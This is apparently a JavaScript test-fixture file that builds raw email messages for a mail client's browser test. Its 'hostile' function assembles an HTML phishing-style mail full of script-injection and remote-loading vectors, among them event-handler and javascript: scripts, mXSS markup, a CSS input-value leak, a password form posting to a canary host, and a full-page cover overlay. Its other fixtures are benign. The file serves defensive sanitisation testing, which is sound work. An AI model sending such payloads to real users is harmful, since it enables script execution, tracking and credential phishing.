// Mail that the test sends itself.
const crlf = (lines) => Buffer.from(lines.join('\r\n') + '\r\n', 'utf8');

// hostile does everything that a mail could try in order to run, load or fake
// something. Every address in it is the canary's.
export function hostile({ to, canary }) {
  return crlf([
    'From: "Bank" <service@bank.example>',
    `To: <${to}>`,
    'Subject: Hostile mail for the browser test',
    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    'Message-ID: <hostile@bank.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<html><head>',
    `<base href="${canary}/base/">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<link rel="stylesheet" href="${canary}/style.css"><link rel="prefetch" href="${canary}/prefetch"><link rel="dns-prefetch" href="${canary}">`,
    `<style>@import url("${canary}/import.css"); @font-face{font-family:f;src:url(${canary}/font)} body{font-family:f;background:url(${canary}/background)}`,
    `#cover{position:fixed;inset:0;background:url(${canary}/cover);z-index:99999} input[value^=a]{background:url(${canary}/leak)}</style>`,
    '<script>top.owned = 1; window.owned = 1; document.title = "owned"</script>',
    `<script src="${canary}/script.js"></script>`,
    '</head><body onload="window.owned=2; top.document.title=\'owned\'">',
    '<p>Dear customer, this paragraph is harmless.</p>',
    `<img src="${canary}/pixel.png" alt="remote picture"><img src="x" onerror="top.owned=3">`,
    `<img srcset="${canary}/srcset.png 2x" src="${canary}/src.png"><picture><source srcset="${canary}/source.png"></picture>`,
    `<table background="${canary}/table.png"><tr><td style="background-image:url('${canary}/cell.png')">cell</td></tr></table>`,
    `<div style="background:u\\72l(${canary}/escaped.png);behavior:url(${canary}/b)">escaped</div>`,
    `<svg onload="top.owned=4"><script>top.owned=5</script><image href="${canary}/svg.png" xlink:href="${canary}/svg2.png"/><use href="${canary}/use.svg#a"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="top.owned=6"></style></mglyph></table></mtext></math>`,
    `<iframe src="${canary}/frame"></iframe><iframe srcdoc="<script>top.owned=7</script>"></iframe>`,
    `<object data="${canary}/object"></object><applet code="${canary}/applet"></applet>`,
    `<video autoplay poster="${canary}/poster.png" src="${canary}/video.mp4"></video><audio autoplay src="${canary}/audio.mp3"></audio>`,
    `<form action="${canary}/form" method="post"><input name="password" value="abc" autofocus onfocus="top.owned=8"><button>Confirm your password</button></form>`,
    `<form action="/api/v1/session" method="post"><button formaction="${canary}/formaction">Log in again</button></form>`,
    '<a href="javascript:top.owned=9">script link</a> <a href="data:text/html,<script>top.owned=10</script>">data link</a>',
    `<a href="${canary}/link" ping="${canary}/ping">real link</a>`,
    '<div id="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:2147483647">COVER</div>',
    '<details open ontoggle="top.owned=11"><summary>more</summary></details><marquee onstart="top.owned=12">x</marquee>',
    `<embed src="${canary}/embed">`,
    '</body></html>',
  ]);
}

// exact has what a store likes to change: bare dots, trailing spaces, tabs, 8-bit
// text, an odd header order and no final text after the boundary.
export function exact({ to, mark }) {
  return crlf([
    'X-First:   odd   spacing  ',
    `To: <${to}>`,
    'MIME-Version: 1.0',
    `Subject: Exact copy ${mark}`,
    'From: Grace Oduya <grace@partners.example>',
    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${mark}@partners.example>`,
    'Content-Type: multipart/mixed; boundary="=_b"',
    '',
    'preamble with trailing spaces   ',
    '--=_b',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    `Grüße aus Köln, das Kennwort lautet ${mark}.`,
    '.a line that starts with a dot',
    '..and one with two',
    'tab\there, spaces at the end   ',
    '',
    '--=_b',
    'Content-Type: application/octet-stream; name="proof.bin"',
    'Content-Disposition: attachment; filename="proof.bin"',
    'Content-Transfer-Encoding: base64',
    '',
    attachment.toString('base64'),
    '--=_b--',
    '',
    'epilogue',
  ]);
}

const people = ['Anna Schmidt <anna@partners.example>', 'Jörg Müller <joerg@partners.example>', 'Grace Oduya <grace@partners.example>', 'faktura@shop.example'];
const day = 86_400_000;

// ordinary are n unremarkable messages of the last years; every fourth has an attachment.
export function ordinary({ to, n }) {
  return Array.from({ length: n }, (_, i) => {
    const head = [
      `From: ${people[i % people.length]}`,
      `To: <${to}>`,
      `Subject: Weekly report ${i + 1}`,
      `Date: ${new Date(Date.now() - (i + 1) * 9 * day).toUTCString().replace('GMT', '+0000')}`,
      `Message-ID: <report-${i + 1}@partners.example>`,
      'MIME-Version: 1.0',
    ];
    const text = ['', `Dear colleagues, this is report number ${i + 1}. Everything went as planned.`];
    if (i % 4 !== 0) {
      return crlf([...head, 'Content-Type: text/plain; charset=utf-8', ...text]);
    }
    return crlf([
      ...head, 'Content-Type: multipart/mixed; boundary=b', '', '--b', 'Content-Type: text/plain', ...text,
      '--b', 'Content-Type: text/csv; name=figures.csv', 'Content-Disposition: attachment; filename=figures.csv', '', `week,${i + 1}`, '--b--',
    ]);
  });
}

// attachment is what exact carries.
export const attachment = Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 37) % 256));
